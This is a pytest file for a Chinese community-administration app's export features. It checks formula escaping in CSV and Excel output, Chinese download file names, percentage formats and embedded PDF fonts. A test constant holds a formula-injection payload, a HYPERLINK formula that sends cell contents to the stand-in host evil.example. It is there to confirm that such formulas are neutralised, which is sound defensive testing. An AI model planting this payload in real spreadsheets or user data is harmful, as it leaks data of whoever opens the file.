"""Exports a leader can forward as they are: no live formulas, percentages, Chinese file names, an embedded font."""

from __future__ import annotations

import csv
import io
import re
import zlib

import pytest
from openpyxl import load_workbook

from tongxin.core.exports import attachment, csv_cell
from tongxin.people import imports

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def test_csv_cells_that_would_be_formulas_get_an_apostrophe():
    for value in (EVIL, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "＝1"):
        assert csv_cell(value).startswith("'")
    assert csv_cell("张三") == "张三" and csv_cell(-5) == -5 and csv_cell(0.5) == 0.5


def test_content_disposition_keeps_chinese_file_names():
    header = attachment("锦绣江山-网格台账-20261127.xlsx")
    assert header.startswith('attachment; filename="tongxin-export.xlsx"; ')
    assert "filename*=utf-8''%E9%94%A6%E7%BB%A3" in header


@pytest.mark.django_db
def test_roster_export_writes_a_formula_name_as_text(world):
    # given a resident whose name is a formula, head of a household in grid 1
    resident = world.residents["a1"]
    type(resident).objects.filter(pk=resident.pk).update(name=EVIL)
    # when the grid roster is exported
    c = world.client("staff_a")
    response = c.get("/people/roster/export/", {"grid": world.grid_1.pk})
    assert response.status_code == 200
    # then the name is a text cell, not a formula, and the file keeps its Chinese name
    ws = load_workbook(io.BytesIO(b"".join(response.streaming_content))).worksheets[0]
    cells = [cell for row in ws.iter_rows() for cell in row if cell.value == EVIL]
    assert cells and all(cell.data_type == "s" for cell in cells)
    assert "filename*=utf-8''" in response["Content-Disposition"]
    assert "%E7%BD%91%E6%A0%BC%E5%8F%B0%E8%B4%A6" in response["Content-Disposition"]  # 网格台账


def test_import_error_report_escapes_formulas():
    from tongxin.core.models import ImportJob

    job = ImportJob(pk=7, original_name="居民.xlsx", errors=[{"row": 3, "column": "姓名", "message": EVIL}])
    text = imports.errors_csv(job).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][2] == "'" + EVIL


def test_the_residents_import_template_example_id_passes_its_own_checksum():
    from tongxin.core import pii

    for spec in imports.KINDS.values():
        for col in spec.columns:
            if "身份证" in str(col.header) and col.example:
                assert pii.parse_id_number(col.example).number == col.example
    ws = load_workbook(io.BytesIO(imports.template_workbook("residents"))).active
    headers = [c.value for c in ws[1]]
    example = ws.cell(row=2, column=headers.index("身份证号") + 1)
    assert example.data_type == "s"
    pii.parse_id_number(example.value)


@pytest.mark.django_db
def test_dashboard_xlsx_shows_rates_as_percentages_with_a_chinese_name(world):
    c = world.client("admin")
    response = c.get("/dashboard/export.xlsx", {"region": world.subdistrict.pk})
    wb = load_workbook(io.BytesIO(response.content))
    overview = wb["总览"]
    rates = [row for row in overview.iter_rows(min_row=5) if row[1].number_format == "0.0%"]
    assert rates, "the rates of the overview carry a percent format"
    trend = wb["趋势"]
    assert all(trend.cell(row=1, column=i).value for i in (1, 2, 3))
    assert all(
        label.isascii() is False
        for (label,) in overview.iter_rows(min_row=5, max_col=1, values_only=True)
        if label
    )
    assert "%E8%AF%89%E6%B1%82%E7%BB%9F%E8%AE%A1" in response["Content-Disposition"]  # 诉求统计


def _streams(pdf: bytes) -> list[bytes]:
    """Every Flate stream of ``pdf``, inflated (reportlab writes font maps and subsets that way)."""
    out = []
    for match in re.finditer(rb"stream\r?\n", pdf):
        try:
            out.append(zlib.decompressobj().decompress(pdf[match.end() :]))
        except zlib.error:
            continue
    return out


@pytest.mark.django_db
def test_pdf_report_embeds_its_chinese_font_without_system_fonts(world, monkeypatch):
    # given a machine whose font paths are empty (reportlab finds no system font) and a region named with "·"
    from reportlab import rl_config
    from reportlab.pdfbase import pdfmetrics

    from tongxin.dashboard import exports

    monkeypatch.setattr(rl_config, "TTFSearchPath", [])
    monkeypatch.setattr(rl_config, "T1SearchPath", [])
    monkeypatch.setattr(rl_config, "CMapSearchPath", [])
    monkeypatch.delitem(pdfmetrics._fonts, exports.CJK_FONT, raising=False)
    type(world.subdistrict).objects.filter(pk=world.subdistrict.pk).update(name="干河街道·测试")
    # when the monthly report is rendered
    c = world.client("admin")
    response = c.get("/dashboard/report.pdf", {"region": world.subdistrict.pk, "month": "2026-11"})
    pdf = response.content
    assert response.status_code == 200 and pdf.startswith(b"%PDF")
    # then the font travels inside the file, as a subset (no CID font that a viewer must supply)
    assert b"/FontFile2" in pdf
    assert re.search(rb"/BaseFont /[A-Z]{6}\+", pdf), "a subset font"
    assert b"STSong" not in pdf
    # and the characters map back to the text, "·" included (the ToUnicode maps of the subset)
    maps = b"".join(s for s in _streams(pdf) if b"beginbfchar" in s or b"beginbfrange" in s)
    for ch in "干河街道·诉求办理月报":
        assert f"<{ord(ch):04X}>".encode() in maps.upper(), ch
    assert "%E6%9C%88%E6%8A%A5" in response["Content-Disposition"]  # 月报


def test_every_exporter_goes_through_the_core_helpers():
    # given every module of the project that writes a spreadsheet, a CSV or a PDF
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or "migrations" in path.parts or path.parent.name == "core":
            continue
        text = path.read_text(encoding="utf-8")
        writes_sheet = "csv.writer(" in text or "Workbook(" in text or "csv.DictWriter(" in text
        if writes_sheet and "tongxin.core.exports" not in text:
            offenders.append(f"{path.relative_to(root)}: spreadsheet without tongxin.core.exports")
        if "UnicodeCIDFont" in text or "STSong" in text:
            offenders.append(
                f"{path.relative_to(root)}: a CID font that is not embedded (use tongxin.core.pdf)"
            )
    # then each escapes its cells and embeds its font through core
    assert not offenders, offenders
